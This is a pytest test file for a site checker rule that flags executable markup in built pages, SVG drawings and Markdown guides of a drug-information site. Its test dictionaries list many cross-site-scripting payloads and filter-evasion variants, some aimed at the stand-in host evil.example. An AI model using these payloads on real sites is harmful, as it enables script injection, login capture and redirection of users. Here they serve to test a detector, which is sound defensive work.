"""STR-ACTIVE"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import pytest

from generators.check.built.markup import Active, active_in_page
from generators.check.rules.pages import active as rule
from generators.site import active
from generators.site.pages import BuiltPage
from tests.check.rules.conftest import Edit, LineOf, Says

GUIDE = "data/drugs/samplirsen/guides/how-it-works.md"
PAGE = "drugs/samplirsen/how-it-works"

ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script of a file": '<script src="../../x.js"></script>',
    "module of another host": '<script type=module src="//evil.example/a.js"></script>',
    "event handler": '<b onclick="x()">b</b>',
    "event handler behind a slash": "<svg/onload=x()></svg>",
    "event handler of a picture": '<img alt="x" src="x.png" onerror="x()">',
    "handler that opens": "<details open ontoggle=x()><summary>s</summary></details>",
    "frame": '<iframe title="x" srcdoc="&lt;script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="p"></form>',
    "form without an address": "<form><input></form>",
    "button that sends": '<button formaction="javascript:x()">b</button>',
    "password": '<input type="password">',
    "object": '<object data="data:text/html,x"></object>',
    "embed": '<embed src="x.swf">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "weaker policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "javascript": '<a href="javascript:x()">x</a>',
    "javascript with a tab": '<a href="java&#9;script:x()">x</a>',
    "javascript with a line break": '<a href="java\nscript:x()">x</a>',
    "javascript in letters of both kinds": '<a href="JaVaScRiPt:x()">x</a>',
    "javascript behind a control character": '<a href="&#1; javascript:x()">x</a>',
    "javascript in entities": '<a href="&#x6a;avascript&colon;x()">x</a>',
    "vbscript": '<a href="vbscript:x()">x</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "picture with markup": '<img alt="x" src="data:image/svg+xml;base64,PHN2Zz4=">',
    "link in a picture": '<svg><a xlink:href="javascript:x()"><text>x</text></a></svg>',
    "script in a picture": "<svg><script>x()</script></svg>",
    "foreign object": "<svg><foreignObject><b>x</b></foreignObject></svg>",
    "animation": '<svg><a><animate attributeName="href" values="javascript:x()"/></a></svg>',
    "set": '<svg><set attributeName="onmouseover" to="x()"/></svg>',
    "use of a file": '<svg><use href="evil.svg#x"/></svg>',
    "mathematics": '<math><maction actiontype="statusline">x</maction></math>',
    "overlay": '<div style="position:fixed;inset:0">x</div>',
    "style with an address": '<p style="background-color: url(x.png)">x</p>',
    "style with an escaped address": r'<p style="color: u\72l(x)">x</p>',
    "expression": '<p style="width: expression(x())">x</p>',
    "style sheet within the page": "<style>body { display: none }</style>",
    "import": '<link rel="import" href="x.html">',
    "preload": '<link rel="preload" href="x.js" as="script">',
    "noscript that is not folded": "<noscript><p>x</p></noscript>",
    "noscript that ends in an attribute": '<details><noscript><p title="</noscript><img src=x onerror=x()>">x</p></noscript></details>',
    "noscript in another": "<details><noscript><details><noscript>x</noscript></details></noscript></details>",
    "noscript that does not end": "<details><noscript><p>x</p></details>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=x()>">x</p></noscript>',
    "comment that a browser ends at once": "<!--><img src=x onerror=x()>-->",
    "comment that a browser ends early": "<!-- x --!><img src=x onerror=x()> -->",
    "handler in a template": "<template><b onclick=x()>x</b></template>",
    "text area": '<textarea title="</textarea><script>x()</script>">x</textarea>',
    "marquee": "<marquee onstart=x()>x</marquee>",
    "id of the theme": '<div id="__config">{}</div>',
    "editable text": "<p contenteditable autofocus onfocus=x()>x</p>",
    "unknown attribute": '<p popovertarget="x">x</p>',
}  # fmt: skip
HARMLESS = (
    "H<sub>2</sub>O, 10<sup>3</sup>, <kbd>Tab</kbd><br>, <mark>x</mark>",
    '<a href="https://elsewhere.example/?a=javascript:x">x</a> <a href="mailto:a@b.example">x</a> <a href="../x/">x</a>',
    '<img alt="x" src="data:image/png;base64,iVBORw0KGgo="> <img alt="x" src="x.png">',
    '<td style="text-align: right;">x</td> <p style="color: rgb(1, 2, 3); font-family: \'A B\', sans-serif">x</p>',
    '<svg viewBox="0 0 1 1"><defs><path id="p" d="M0 0"/></defs><use href="#p" x="1"/><g clip-path="url(#c)"></g></svg>',
    '<script type="application/ld+json">{"a": 1}</script>',
    "<details><summary>s</summary><noscript><p title='&lt;/noscript>'>x</p></noscript></details>",
    "<!-- a comment of words -->",
    '<p title="&lt;script&gt;" aria-label="onclick=x()" data-label="url(x)">&lt;script&gt;</p>',
)


LOOKED_AT: dict[tuple[str, str], list[Active]] = {}


@pytest.fixture(autouse=True)
def _looked_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A page without scripts, of which files would be asked, is looked at once for all tests that leave it as it is."""

    def look_once(page: BuiltPage, root: Path) -> Iterable[Active]:
        if "<script" in page.text.lower():
            return active_in_page(page, root)
        key = page.address, page.text
        if key not in LOOKED_AT:
            LOOKED_AT[key] = list(active_in_page(page, root))
        return LOOKED_AT[key]

    monkeypatch.setattr(rule, "active_in_page", look_once)


@pytest.mark.parametrize("markup", ACTIVE.values(), ids=ACTIVE)
def test_what_could_run_on_a_built_page_is_found(site_says: Says, edit_page: Edit, markup: str) -> None:
    edit_page(PAGE, "</h1>", f"</h1>{markup}")
    found = site_says("STR-ACTIVE")
    assert found and all(f.message.startswith(f"/{PAGE} holds ") for f in found)


@pytest.mark.parametrize("markup", HARMLESS)
def test_harmless_markup_of_a_built_page_is_left_alone(site_says: Says, edit_page: Edit, markup: str) -> None:
    edit_page(PAGE, "</h1>", f"</h1>{markup}")
    assert site_says("STR-ACTIVE") == []


def test_a_script_of_a_notebook_is_found_in_the_notebook(site_says: Says, edit_page: Edit) -> None:
    edit_page("notebooks/look", "</h1>", "</h1><script>x()</script>")
    (finding,) = site_says("STR-ACTIVE")
    assert finding.where.file == "docs/notebooks/look.ipynb"


def test_a_script_of_the_theme_is_left_alone_and_a_changed_one_is_found(
    site: Path, site_says: Says, edit_page: Edit
) -> None:
    theme = Path(active.__file__).parents[1] / "theme/assets/guide.js"
    (site / "assets").mkdir(exist_ok=True)
    (site / "assets/guide.js").write_bytes(theme.read_bytes())
    edit_page(PAGE, "</h1>", '</h1><script src="../../../assets/guide.js"></script>')
    assert site_says("STR-ACTIVE") == []
    (site / "assets/guide.js").write_text("alert(1)", encoding="utf-8")
    in_page, in_file = sorted(finding.message for finding in site_says("STR-ACTIVE"))[::-1]
    assert in_page.startswith(f"/{PAGE} holds the script '../../../assets/guide.js'")
    assert in_file.startswith("/assets/guide.js is a script that is not the theme's")


@pytest.mark.parametrize(
    "inside",
    [
        "<script>x()</script>", '<g onload="x()"/>', '<a href="javascript:x()"/>', "<foreignObject/>", '<use href="x.svg#y"/>',
        "<style>@import 'x'</style>", "<?xml-stylesheet href='x.xsl'?>", '<set attributeName="href" to="x"/>',
    ],
)  # fmt: skip
def test_a_picture_that_could_run_is_found(site: Path, site_says: Says, inside: str) -> None:
    picture = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
    (site / "drawing.svg").write_text(picture, encoding="utf-8")
    (finding,) = site_says("STR-ACTIVE")
    assert finding.message.startswith("/drawing.svg holds ")


@pytest.mark.parametrize("name", ["x.htm", "x.xhtml", "x.HTA"])
def test_a_page_that_nobody_checks_is_found(site: Path, site_says: Says, name: str) -> None:
    (site / name).write_text("<script>x()</script>", encoding="utf-8")
    (finding,) = site_says("STR-ACTIVE")
    assert finding.message.startswith(f"/{name} is a page that is not checked")


@pytest.mark.parametrize("name", ["x.js", "x.mjs", "assets/card.js", "y.WASM"])
def test_a_script_beside_the_pages_that_is_not_ours_is_found(site: Path, site_says: Says, name: str) -> None:
    (site / name).parent.mkdir(exist_ok=True)
    (site / name).write_text("x()", encoding="utf-8")
    (finding,) = site_says("STR-ACTIVE")
    assert finding.message.startswith(f"/{name} is a script that is not the theme's")


# --- in a guide ------------------------------------------------------------------------------------------------------

IN_GUIDES = {
    **{name: text for name, text in ACTIVE.items() if name != "javascript with a line break"},
    "attribute list": '*b*{ onfocus="x()" autofocus tabindex=0 }',
    "attribute list of a block": '{: onmouseover="x()" }',
    "attribute list with an address": "*b*{ style=background:url(https://x.example) }",
    "tag that does not close": "<img src=x onerror=x()",
    "tag that holds a tag": '<img title="<" src=x onerror=x()>',
    "link of Markdown": "[x](javascript:x())",
    "link of Markdown in entities": "[x](&#106;avascript:x())",
    "link of Markdown in brackets": "[x](<javascript:x()>)",
    "reference of Markdown": "[x][y]\n\n[y]: javascript:x()",
    "picture of Markdown": "![x](data:text/html,x)",
    "autolink": "<javascript:x()>",
    "processing instruction": "<?php x ?>",
    "declaration": "<!DOCTYPE html>",
}
QUIET_IN_GUIDES = (
    "H<sub>2</sub>O and 10<sup>3</sup><br>, <br/>, <i>in vivo</i>, <abbr title=\"x\">X</abbr>",
    "<https://elsewhere.example/x> <a@b.example> [x](https://elsewhere.example) [y](../../x/) [z](#effect) [m](mailto:a@b.org)",
    "`<script>` and\n\n```\n<script>x()</script>\n```\n",
    "<!-- left out -->",
    "p < 0.05, a<5, 3 <5, x <= y, {participants} and { #named }",
    '{{ value("smp-half-life") }}',
)  # fmt: skip


@pytest.mark.parametrize("markup", IN_GUIDES.values(), ids=IN_GUIDES)
def test_what_could_run_is_found_in_a_guide_at_its_place(says: Says, edit: Edit, line_of: LineOf, markup: str) -> None:
    edit(GUIDE, "## Conclusion\n", f"## Conclusion\n\nSee {markup}\n\n")
    found = says("STR-ACTIVE")
    assert found and {f.where.file for f in found} == {GUIDE}
    assert line_of(GUIDE, "See " + markup.split("\n")[0]) <= found[0].where.line
    assert found[0].where.column > 1 or "\n" in markup


@pytest.mark.parametrize("text", QUIET_IN_GUIDES)
def test_words_code_and_harmless_elements_of_a_guide_are_left_alone(says: Says, edit: Edit, text: str) -> None:
    edit(GUIDE, "## Conclusion\n", f"## Conclusion\n\n{text}\n\n")
    assert says("STR-ACTIVE") == []
